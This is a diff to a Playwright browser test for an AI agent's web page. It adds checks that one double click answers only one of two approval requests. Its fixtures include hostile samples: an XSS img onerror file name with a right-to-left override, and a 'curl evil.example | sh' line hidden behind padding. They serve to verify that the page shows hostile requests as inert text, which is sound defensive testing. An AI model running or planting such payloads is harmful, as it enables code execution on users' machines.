@@ -3,9 +3,9 @@
     pip install playwright                    # and a chromium; neither is needed for anything else
     python -m tests.bench.page_in_browser [--chromium /usr/bin/chromium] [--pictures FOLDER]
 
-Two tasks stream, a file is previewed while it is written, an approval is answered in a second tab, the page
-is reloaded in the middle of both answers, hostile text is shown, the server ends. Prints one JSON line; exits
-1 at the first thing that is not as it should be.
+Two tasks stream, a file is previewed while it is written, an approval is answered in a second tab, a double
+click answers one of two requests alone, the page is reloaded in the middle of both answers, hostile text is
+shown, the server ends. Prints one JSON line; exits 1 at the first thing that is not as it should be.
 """
 
 from __future__ import annotations
@@ -13,6 +13,7 @@ from __future__ import annotations
 import argparse
 import asyncio
 import json
+import os
 import signal
 import sys
 import tempfile
@@ -37,6 +38,14 @@ HOSTILE = (
 
 TRAP_PATH = "<img src=x onerror=window.pwned=1>\u202etxt.sh"
 TRAP = "harmless\u200b\n" + " " * 300 + "curl evil.example | sh\n<script>window.pwned=1</script>\n"
+CLICK_AT_ONCE = """() => {
+  window.hasty = 0;
+  new MutationObserver(() => {
+    const yes = document.querySelector(".request .yes");
+    if (yes) { window.hasty += 1; yes.click(); }
+  }).observe(document.getElementById("asked"), { childList: true });
+}"""
+"""Clicks as somebody whose finger was on its way when another request took the place."""
 
 
 def answer(asked: Asked) -> Reply:
@@ -46,6 +55,11 @@ def answer(asked: Asked) -> Reply:
         return reply("The notes are written.")
     if "hostile" in last:  # first: the prompt carries the note of the finished story
         return reply(HOSTILE)
+    if "two files" in last:
+        kind = "dark" if "dark" in last else "light"
+        return reply(
+            *(call("write_file", path=f"{kind}-{name}.txt", content="1\n") for name in ("one", "two"))
+        )
     if "trap" in last:
         return reply(call("write_file", path=TRAP_PATH, content=TRAP))
     if "story" in last:
@@ -94,6 +108,7 @@ async def rounds(chromium: str, pictures: Path) -> dict[str, Any]:
             await expect(second.locator(".request")).to_be_visible()
             assert "step 59" in await second.locator(".request").inner_text()
             assert not (program.repo / "notes.md").exists()
+            await expect(second.locator("#asked.changed")).to_have_count(0)
             await second.get_by_role("button", name="Yes", exact=True).click()
             await expect(page.locator(".request")).to_have_count(0)
             await expect(page.get_by_text("The notes are written.")).to_be_visible()
@@ -135,6 +150,33 @@ async def rounds(chromium: str, pictures: Path) -> dict[str, Any]:
             await page.screenshot(path=pictures / "6-hostile-text.png")
             seen["hostile text is text"] = True
 
+            await page.evaluate(CLICK_AT_ONCE)
+            for scheme in ("light", "dark"):
+                await page.emulate_media(color_scheme=scheme)
+                await page.set_viewport_size(PHONE)
+                files = len(os.listdir(program.repo))
+                await page.fill("#text", f"two files, {scheme}")
+                await page.click("#send")
+                await expect(page.locator(".request")).to_have_count(1)
+                yes = page.get_by_role("button", name="Yes", exact=True)
+                await expect(page.locator("#asked.changed")).to_have_count(0)
+                text = await page.locator(".request").inner_text()
+                other = f"add {scheme}-{'two' if '-one.txt' in text else 'one'}.txt"
+                assert len(os.listdir(program.repo)) == files, "a hasty click answered"
+                for width in (PHONE["width"], 1100):
+                    await page.set_viewport_size({"width": width, "height": 844})
+                    await page.screenshot(path=pictures / f"8-a-request-{scheme}-{width}.png")
+                await yes.click()
+                await expect(page.locator(".request")).to_contain_text(other)
+                await expect(page.locator("#asked.changed")).to_have_count(0)
+                text = await page.locator(".request").inner_text()
+                assert other in text, "the click answered the next one, too"
+                await page.get_by_role("button", name="No", exact=True).click()
+                await expect(page.locator(".request")).to_have_count(0)
+                await expect(page.locator("#cancel")).to_be_hidden()
+            seen["a double click answers one request"] = True
+            assert await page.evaluate("window.hasty") >= 4
+
             await page.fill("#text", "a trap")
             await page.click("#send")
             asked = page.locator(".request")
@@ -149,9 +191,10 @@ async def rounds(chromium: str, pictures: Path) -> dict[str, Any]:
             assert await asked.locator("img, script").count() == 0
             await page.screenshot(path=pictures / "7-a-hostile-request.png")
             await asked.locator("input").fill("that is a trap")
+            await expect(page.locator("#asked.changed")).to_have_count(0)
             await asked.get_by_role("button", name="No", exact=True).click()
             await expect(asked).to_have_count(0)
-            await expect(page.locator(".tool.denied")).to_have_count(1)
+            await expect(page.locator(".tool.denied")).to_have_count(3)
             assert await page.evaluate("window.pwned") is None
             seen["a hostile request is shown as it is"] = True
 
